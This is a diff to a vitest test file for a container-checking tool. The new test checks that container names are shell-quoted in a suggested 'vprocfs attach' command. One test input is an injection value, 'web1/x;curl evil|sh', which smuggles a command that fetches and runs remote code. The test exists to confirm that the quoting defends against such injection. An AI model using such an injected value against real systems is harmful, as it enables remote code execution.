@@ -1,6 +1,7 @@
 import { describe, expect, it } from "vitest";
+import { loadConfig } from "../../src/config-load.js";
 import { parseMountinfo } from "../../src/mountinfo.js";
-import { sortMounts } from "../../src/tools/container-checks.js";
+import { checkContainer, sortMounts } from "../../src/tools/container-checks.js";
 
 const PATHS = [
   "proc/meminfo",
@@ -53,5 +54,32 @@ describe("sortMounts", () => {
     expect(sortMounts(mounts, ["proc/stat"], host)).toMatchObject({ lxcfs: ["proc/stat"] });
     const without = { ...host, devices: new Set(["0:30"]) };
     expect(sortMounts(mounts, ["proc/stat"], without)).toMatchObject({ dead: ["proc/stat"] });
+  });
+});
+
+describe("checkContainer", () => {
+  it("quotes a name for the shell in what is to be done", async () => {
+    const own = { id: "1", runtime: "lxc", cgroup: "/x", init: process.pid, lastVictim: "" };
+    const container = { ...own, figures: new Map<string, number>() };
+    const inputs = {
+      surveys: { readInside: () => Promise.reject(new Error("nobody is asked")) },
+      config: loadConfig({
+        flags: { source: "none-of-ours" },
+        env: {},
+        defaultFile: "/nonexistent",
+      }),
+      device: undefined,
+      devices: new Set<string>(),
+      exclusionReason: () => undefined,
+      paths: ["proc/vprocfs-test"],
+      hostMeminfo: "",
+    };
+    const todoOf = async (name: string) => {
+      const findings = await checkContainer({ ...container, name }, inputs);
+      return findings.find(({ what }) => what.startsWith("no file of vprocfs"))?.todo;
+    };
+    expect(await todoOf("web1/x;curl evil|sh")).toBe("vprocfs attach 'web1/x;curl evil|sh'");
+    expect(await todoOf("web1/a'b")).toBe(`vprocfs attach 'web1/a'"'"'b'`);
+    expect(await todoOf("web1")).toBe("vprocfs attach web1");
   });
 });
